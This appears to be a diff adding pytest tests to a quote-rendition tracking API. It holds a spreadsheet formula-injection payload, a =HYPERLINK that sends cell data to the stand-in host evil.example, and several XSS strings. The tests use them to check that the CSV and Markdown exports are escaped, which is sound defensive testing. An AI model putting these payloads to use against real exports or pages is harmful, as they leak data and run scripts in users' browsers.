@@ -239,3 +239,44 @@ def test_lineage_and_trace_show_the_glosses_people_wrote(fx_api) -> None:
     traced = fx_api.client.post("/api/trace", json={"text": "until the day of victory"}).json()
     path = traced["matches"][0]["lineage"]["paths"][0]
     assert any(r["glosses"] for r in path["renditions"] if r["language"] != "en")
+
+
+def test_notes_and_reviews_sent_with_a_new_rendition_are_kept(fx_api) -> None:
+    """A rendition posted with ``derived_from`` notes and reviews keeps them (they were answered 201 and dropped)."""
+    text = "We repeat that we will stand by our Russian comrades."
+    body = {"key": "desk-notes", "language": "en", "status": "attested", "text": text,
+            "derived_from": [{"parent": "afp-en", "relation": "quotation",
+                              "notes": [{"text": "shortened by the desk", "category": "omission", "severity": "minor",
+                                         "author": "Desk", "child_span": {"start": 3, "end": 9, "exact": "repeat"}}],
+                              "reviews": [{"fingerprint": "0" * 32, "verdict": "dismissed", "reviewer": "Desk"}]}]}
+    r = fx_api.client.post(f"/api/quotes/{CHOE}/renditions", json=body, headers=fx_api.editor)
+    assert r.status_code == 201, r.text
+    drift = fx_api.client.get(f"/api/renditions/{CHOE}:desk-notes/drift").json()
+    notes = [f for f in drift["findings"] if f["origin"] == "human"]
+    assert [(n["explanation"], n["child_span"]["exact"]) for n in notes] == [("shortened by the desk", "repeat")]
+    exported = fx_api.client.get(f"/api/quotes/{CHOE}/export").json()
+    link = next(r for r in exported["quotes"][0]["renditions"] if r["key"] == "desk-notes")["derived_from"][0]
+    assert link["reviews"][0]["verdict"] == "dismissed" and link["notes"][0]["author"] == "Desk"
+
+
+def test_exports_neither_run_formulas_nor_html(fx_api) -> None:
+    """A note starting with =HYPERLINK is text in the CSV; HTML in a record is text in the Markdown report."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    r = fx_api.client.post(f"/api/renditions/{CHOE}:lejdd-fr/notes", headers=fx_api.editor,
+                           json={"text": formula, "category": "other", "severity": "minor", "author": "@mallory"})
+    assert r.status_code == 201, r.text
+    csv_body = fx_api.client.get(f"/api/quotes/{CHOE}/export", params={"format": "csv"}).text
+    import csv
+    import io
+
+    rows = list(csv.DictReader(io.StringIO(csv_body)))
+    note = next(row for row in rows if "HYPERLINK" in row["explanation"])
+    assert note["explanation"] == "'" + formula and note["author"] == "'@mallory"
+    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
+    r = fx_api.client.post(f"/api/renditions/{CHOE}:lejdd-fr/notes", headers=fx_api.editor,
+                           json={"text": "<script>alert(1)</script> & <b>bold</b>", "category": "other",
+                                 "severity": "minor", "author": "<img src=x onerror=alert(1)>"})
+    assert r.status_code == 201
+    report = fx_api.client.get(f"/api/quotes/{CHOE}/export", params={"format": "markdown"}).text
+    assert "<script>" not in report and "<img" not in report and "<b>" not in report
+    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;" in report
